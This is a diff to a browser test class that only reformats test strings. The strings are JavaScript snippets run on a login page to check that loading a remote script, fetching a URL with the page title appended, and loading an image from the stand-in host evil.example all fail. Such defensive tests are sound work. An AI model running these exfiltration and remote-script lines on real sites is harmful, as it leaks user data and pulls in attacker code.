@@ -329,12 +329,16 @@ class TestBrowser:
         browser.open("/web/login", "form.oe_login_form")
         browser.faults.clear()
         for script in (
-            "new Promise(r => { const s = document.createElement('script');"
-            " s.src = 'https://evil.example/x.js'; s.onerror = () => r(1);"
-            " document.head.append(s) })",
+            (
+                "new Promise(r => { const s = document.createElement('script');"
+                " s.src = 'https://evil.example/x.js'; s.onerror = () => r(1);"
+                " document.head.append(s) })"
+            ),
             "fetch('https://evil.example/?' + document.title).catch(() => 1)",
-            "new Promise(r => { const i = new Image(); i.onerror = () => r(1);"
-            " i.src = 'https://evil.example/x.png' })",
+            (
+                "new Promise(r => { const i = new Image(); i.onerror = () => r(1);"
+                " i.src = 'https://evil.example/x.png' })"
+            ),
         ):
             assert browser.evaluate(script) == 1
         browser.evaluate(
